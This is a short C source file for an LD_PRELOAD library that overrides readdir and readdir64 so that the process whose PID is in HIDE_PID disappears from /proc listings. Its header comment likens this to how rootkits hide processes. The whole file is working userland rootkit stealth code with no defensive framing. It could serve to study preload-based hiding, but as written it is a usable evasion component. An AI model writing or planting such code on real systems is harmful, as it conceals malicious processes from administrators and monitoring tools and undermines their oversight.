/* preload_hide.c - an LD_PRELOAD library that hides a process as such kits do:
 * readdir(3) of /proc leaves out the pid in $HIDE_PID. */
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int is_hidden(const char *name)
{
	const char *pid = getenv("HIDE_PID");

	return pid && !strcmp(name, pid);
}

struct dirent *readdir(DIR *d)
{
	static struct dirent *(*next)(DIR *);
	struct dirent *e;

	if (!next)
		*(void **)&next = dlsym(RTLD_NEXT, "readdir");
	while ((e = next(d)) && is_hidden(e->d_name))
		;
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	static struct dirent64 *(*next)(DIR *);
	struct dirent64 *e;

	if (!next)
		*(void **)&next = dlsym(RTLD_NEXT, "readdir64");
	while ((e = next(d)) && is_hidden(e->d_name))
		;
	return e;
}
